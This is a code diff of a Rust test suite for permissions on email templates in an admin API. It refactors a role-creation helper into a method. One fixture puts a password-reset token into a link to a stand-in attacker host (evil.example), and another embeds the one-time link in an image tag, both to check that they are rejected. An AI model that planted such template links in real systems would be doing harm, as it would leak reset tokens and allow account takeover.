@@ -473,32 +473,6 @@ db_test!(
     }
 );
 
-/// A staff user with a role of `resources` over `websites` (all when `None`); their token.
-async fn staff_with_role(
-    app: &TestApp,
-    email: &str,
-    resources: &[&str],
-    websites: Option<Vec<i64>>,
-) -> String {
-    let root = app.root_token().await;
-    let mut input = json!({"name": email, "resources": resources});
-    if let Some(ids) = websites {
-        input["website_ids"] = json!(ids);
-    }
-    let (_, role) = app
-        .admin(
-            Some(&root),
-            "mutation($i: CreateRoleInput!) { createRole(input: $i) { id } }",
-            json!({"i": input}),
-        )
-        .await;
-    let role_id = role["data"]["createRole"]["id"]
-        .as_i64()
-        .unwrap_or_else(|| panic!("{role}"));
-    app.create_staff(email, role_id as i32).await;
-    app.sign_in(email).await
-}
-
 db_test!(
     template_changes_are_scoped_and_one_time_links_stay_where_the_store_put_them,
     |app| {
@@ -518,8 +492,9 @@ db_test!(
         let evil = "<a href=\"https://evil.example/?t={{ token }}\">Reset</a>";
 
         // The email-template permission alone cannot touch an email with a one-time link.
-        let mail =
-            staff_with_role(app, "mail@example.com", &["Magento_Email::template"], None).await;
+        let mail = app
+            .staff_with_role("mail@example.com", &["Magento_Email::template"], None)
+            .await;
         let (_, body) = app.admin(Some(&mail), save, template(RESET, 0, evil)).await;
         assert_eq!(error_ext(&body, "code"), "FORBIDDEN", "{body}");
         let (_, body) = app
@@ -536,13 +511,13 @@ db_test!(
         assert_eq!(error_ext(&body, "code"), "FORBIDDEN", "{body}");
 
         // A role of one website changes only that website's store views.
-        let base = staff_with_role(
-            app,
-            "base@example.com",
-            &["Magento_Email::template"],
-            Some(vec![1]),
-        )
-        .await;
+        let base = app
+            .staff_with_role(
+                "base@example.com",
+                &["Magento_Email::template"],
+                Some(vec![1]),
+            )
+            .await;
         let (_, body) = app
             .admin(Some(&base), save, template(WELCOME, 0, "<p>Hi</p>"))
             .await;
@@ -564,16 +539,16 @@ db_test!(
         assert_eq!(body["data"]["saveEmailTemplate"]["store_id"], 1, "{body}");
 
         // With the permission for such emails, the link may stand only where it is the link.
-        let secrets = staff_with_role(
-            app,
-            "secrets@example.com",
-            &[
-                "Magento_Email::template",
-                "Clientele_Email::secret_templates",
-            ],
-            None,
-        )
-        .await;
+        let secrets = app
+            .staff_with_role(
+                "secrets@example.com",
+                &[
+                    "Magento_Email::template",
+                    "Clientele_Email::secret_templates",
+                ],
+                None,
+            )
+            .await;
         for bad in [evil, "<img src=\"{{ link }}\">"] {
             let (_, body) = app
                 .admin(Some(&secrets), save, template(RESET, 0, bad))
